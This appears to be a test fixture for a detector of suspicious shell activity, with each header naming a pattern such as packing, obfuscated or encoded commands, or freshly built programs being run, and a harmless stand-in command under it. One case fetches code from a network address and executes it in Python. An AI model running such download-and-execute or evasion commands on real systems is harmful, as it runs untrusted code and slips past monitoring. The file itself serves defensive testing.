## Program put together by a shell or a text tool
cat /bin/true > /home/ann/t; chmod 755 /home/ann/t; /home/ann/t
## Program written by an interpreter beside its script
python3 -c 'import os; open("/home/ann/t", "wb").write(open("/bin/true", "rb").read()); os.chmod("/home/ann/t", 0o755); os.execv("/home/ann/t", ["t"])'
## Program in a scratch folder stripped, then run
#setup cp /bin/true /tmp/t
strip -s /tmp/t; /tmp/t
## Program changed in place, then run
#setup mkdir -p /opt/x; stubs /opt/x/t
printf x >> /opt/x/t; /opt/x/t
## Packer of programs started
#setup stubs /usr/bin/upx
upx -o /opt/b /opt/a
## Encoded code on the command line of an interpreter
python3 -c 'exec(bytes.fromhex("70617373"))'
## Code evaluated straight from a download
python3 -c 'import urllib.request as u; exec(u.urlopen("http://10.9.8.7:1/").read())'
## Command written so that it can't be read
sh -c 'echo${IFS}/etc/hosts'
## Source from a pipe compiled into a scratch folder
echo 'int main(void) { return 0; }' | gcc -x c -o /tmp/t -
## Source compiled in a scratch folder, removed, then the program run
#setup echo 'int main(void) { return 0; }' > /tmp/t.c
gcc -o /tmp/t /tmp/t.c; rm /tmp/t.c; /tmp/t
## Data appended to a picture or a document
echo x >> /home/ann/x.jpg
## Download of a browser run
#setup shells /usr/lib/firefox-esr/firefox-esr
/usr/lib/firefox-esr/firefox-esr -c 'echo "#!/bin/sh" > /home/ann/x.sh'; chmod +x /home/ann/x.sh; /home/ann/x.sh
## File encrypted or decrypted with a password on the command line
echo x | openssl enc -aes-256-cbc -pbkdf2 -pass pass:x > /dev/null
## Source code in a scratch folder run at once
#setup echo 'class U { public static void main(String[] a) {} }' > /dev/shm/U.java
java -XX:TieredStopAtLevel=1 /dev/shm/U.java
## Letters of a text shifted by a command
echo 'vq' | tr a-z n-za-m
